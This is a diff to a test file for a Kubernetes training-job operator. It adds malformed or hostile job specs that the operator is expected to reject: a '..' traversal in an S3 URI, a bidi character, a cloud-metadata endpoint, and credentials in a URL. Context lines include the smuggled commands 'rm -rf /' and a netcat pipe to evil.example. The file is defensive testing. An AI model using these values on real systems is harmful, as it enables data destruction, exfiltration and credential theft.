@@ -295,6 +295,12 @@ HOSTILE = [
      "spec.model.config"),
     ("config-nested", {"model": {"name": "x", "config": {"rope_scaling": {"a": {"b": {"c": 1}}}},
                                  "task": "sequence-classification"}}, "spec.model.config.rope_scaling"),
+    ("train-dotdot", {"data": {"train": "s3://kubetrain/a/../../other/train.jsonl"}}, "spec.data.train"),
+    ("textfield-bidi", {"data": {"train": "x.jsonl", "textField": "text\u202e"}}, "spec.data.textField"),
+    ("endpoint-metadata", {"checkpoint": {"uri": "s3://b/c", "endpoint": "http://169.254.169.254"}},
+     "spec.checkpoint.endpoint"),
+    ("endpoint-userinfo", {"checkpoint": {"uri": "s3://b/c", "endpoint": "http://key:secret@s3.local"}},
+     "spec.checkpoint.endpoint"),
     ("data-missing", {"data": None}, "spec.data"),
     ("train-injection", {"data": {"train": "x.jsonl; rm -rf /"}}, "spec.data.train"),
     ("train-pipe", {"data": {"train": "x.jsonl | nc evil.example 1"}}, "spec.data.train"),
@@ -367,7 +373,8 @@ def test_hostile_jobs_are_each_failed_naming_the_field_with_no_pod_and_the_opera
         cluster.custom_api().delete_namespaced_custom_object("kubetrain.io", "v1alpha1", NS, "trainingjobs", name)
     record("hostile-jobs", f"{len(HOSTILE)} malformed or hostile TrainingJobs: wrong types, huge numbers, NaN/Infinity, "
            "shell injection in image/paths/secret/endpoint, a name that cannot be a hostname, loader options "
-           "(trust_remote_code, token) and nested values in model.config",
+           "(trust_remote_code, token) and nested values in model.config, '..' in remote URIs, bidi "
+           "characters, credentials or a link-local host in the S3 endpoint",
            "each Failed (InvalidSpec) naming its field; 0 pods created; the operator kept running", 0, "-",
            time.monotonic() - started)
 
